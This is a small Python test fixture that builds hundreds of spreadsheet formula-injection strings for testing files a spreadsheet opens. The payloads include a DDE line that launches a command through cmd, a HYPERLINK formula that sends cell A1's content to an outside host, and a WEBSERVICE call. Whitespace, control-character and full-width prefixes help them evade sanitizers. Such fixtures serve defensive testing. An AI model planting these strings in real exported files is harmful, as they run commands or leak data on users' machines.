"""Texts that a spreadsheet might run, for tests of the files it opens."""

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://example.org/"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+SUM(1,1)",
    "-1+1",
    "-SUM(1)",
    "@SUM(1,1)",
    '=WEBSERVICE("http://example.org/")',
    '=1+1";=2+2',
    "a\n=1+1",
    "a\r\n=1+1",
    "{=1+1}",
    "\uff1d1\uff0b1",
    "\uff20SUM(1,1)",
)
BEFORE = (
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\0",
    "\x0b",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u202e",
    "'",
    '"',
    ",",
    ";",
)


def cells(how_many=500):
    """That many hostile texts, no two alike."""
    every = [f"{before}{payload}" for payload in PAYLOADS for before in BEFORE]
    return [every[n % len(every)] + ("" if n < len(every) else f"+{n}") for n in range(how_many)]
